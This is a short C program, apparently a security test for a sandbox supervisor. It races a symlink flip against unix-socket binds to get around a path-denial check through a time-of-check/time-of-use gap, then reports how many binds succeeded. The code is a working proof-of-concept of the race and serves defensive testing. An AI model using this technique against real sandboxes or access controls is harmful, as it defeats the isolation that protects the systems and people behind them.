// Attack on a unix socket bind under path denial: a thread flips the
// symlink BASE/L between BASE/fake (holding an open directory `denied`)
// and BASE (holding the denied one), while the main thread binds
// BASE/L/denied/v<i> for i in 0..ROUNDS, each a new name. The supervisor
// checks the directory while L names BASE/fake; a bind that then lands in
// BASE/denied, with L flipped back before any re-check, leaves a socket
// file in the denied directory. The test counts those files (and flips
// L from a host thread too: this thread's calls are trapped, so slow). Prints
// "bound N" (binds that succeeded, in either directory).
//
// usage: unix_bind_land BASE ROUNDS
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
static atomic_int stop;
static const char *base;
static void *flip(void *a) {
    (void)a;
    char to_open[300], to_den[300], l[300], t1[300], t2[300];
    snprintf(l, 300, "%s/L", base);
    snprintf(t1, 300, "%s/t1", base);
    snprintf(t2, 300, "%s/t2", base);
    snprintf(to_open, 300, "%s/fake", base);
    snprintf(to_den, 300, "%s", base);
    while (!atomic_load(&stop)) {
        unlink(t1); symlink(to_den, t1); rename(t1, l);
        unlink(t2); symlink(to_open, t2); rename(t2, l);
    }
    return NULL;
}
int main(int c, char **v) {
    if (c < 3) return 2;
    base = v[1];
    int n = atoi(v[2]), ok = 0;
    char l[300];
    snprintf(l, 300, "%s/L", base);
    symlink("fake", l);
    pthread_t t;
    pthread_create(&t, NULL, flip, NULL);
    for (int i = 0; i < n; i++) {
        struct sockaddr_un a = {.sun_family = AF_UNIX};
        snprintf(a.sun_path, sizeof a.sun_path, "%s/L/denied/v%d", base, i);
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        if (bind(fd, (void *)&a, sizeof a) == 0) ok++;
        char u[300];
        snprintf(u, 300, "%s/fake/denied/v%d", base, i);
        unlink(u);
        close(fd);
    }
    atomic_store(&stop, 1);
    pthread_join(t, NULL);
    printf("bound %d\n", ok);
    return 0;
}
